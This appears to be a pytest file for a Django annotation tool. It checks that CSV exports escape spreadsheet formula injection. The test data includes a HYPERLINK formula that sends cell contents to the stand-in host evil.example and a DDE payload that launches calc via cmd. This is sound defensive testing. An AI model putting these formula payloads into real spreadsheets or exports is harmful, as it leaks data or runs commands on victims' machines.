"""Issue 11, point 10: every CSV download defuses cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from annotator.csvsafe import csv_writer, safe_cell
from annotator.services import reports
from annotator.services.reports import do_request_report
from annotator.views import agreement_display
from tests.labels import project_trace, submit

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'


@pytest.mark.parametrize("text", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"])
def test_formula_cells_get_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.25", "+1e-05", "-inf", "nan", "plain text", "a=b", 3, -1.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["name", "score"], [HOSTILE, "-0.5"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue())))[1] == ["'" + HOSTILE, "-0.5"]


def test_the_agreement_csv_escapes_imported_names(project, annotator_a, annotator_b):
    for _ in range(3):
        trace = project_trace(project)
        submit(project, trace, annotator_a, {"FM-1.1": [1]})
        submit(project, trace, annotator_b, {"FM-1.1": [1]})
    report = reports.do_compute_report(do_request_report(project, {}, enqueue=False).pk)
    results = report.results
    results["modes"][0]["name"] = HOSTILE  # a custom taxonomy's mode name is whatever its author typed
    rows = list(csv.DictReader(io.StringIO(agreement_display.report_csv(results))))
    assert rows[0]["name"] == "'" + HOSTILE and HOSTILE not in [v for row in rows for v in row.values()]


def test_the_signature_downloads_and_command_escape_cells(client, project, owner, monkeypatch):
    hostile_table = (["agent", "traces"], [[HOSTILE, 3], ["-1", 2]])
    monkeypatch.setattr("annotator.views.signatures.figure_table", lambda signatures, figure: hostile_table)
    monkeypatch.setattr(
        "annotator.management.commands.signatures.figure_table", lambda signatures, figure: hostile_table
    )
    client.force_login(owner)
    response = client.get(f"/p/{project.slug}/signatures/agents.csv?source=union")
    assert response.status_code == 200, response.content
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["'" + HOSTILE, "3"] and rows[2] == ["-1", "2"]
    out = StringIO()
    call_command("signatures", project.slug, "--source", "union", "--csv", "agents", stdout=out)
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][0] == "'" + HOSTILE
